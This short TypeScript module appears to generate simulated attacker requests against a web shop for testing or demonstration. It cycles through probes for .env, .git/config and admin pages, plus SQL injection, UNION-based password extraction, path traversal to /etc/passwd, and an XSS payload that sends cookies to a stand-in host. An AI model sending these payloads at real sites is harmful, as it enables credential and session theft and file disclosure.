/** What an attacker asks a shop for: places where holes are usual, and searches that are none. */
const asked = [
  '/.env',
  "/catalog?q=lamp'%20or%20'1'='1",
  '/wp-login.php',
  "/catalog?q=1'%20union%20select%20name,password%20from%20users--",
  '/.git/config',
  '/catalog?q=%3Cscript%3Edocument.location=%27http://203.0.113.200/%27%2Bdocument.cookie%3C/script%3E',
  '/phpmyadmin/index.php',
  '/catalog?q=../../../../etc/passwd',
] as const;

/** The so many-eth request, from 0; they begin again when all were made. */
export const attackAt = (index: number): string => asked[index % asked.length]!;

/** How long until the next one, ms: a program in no hurry. */
export const pauseMs = 400;
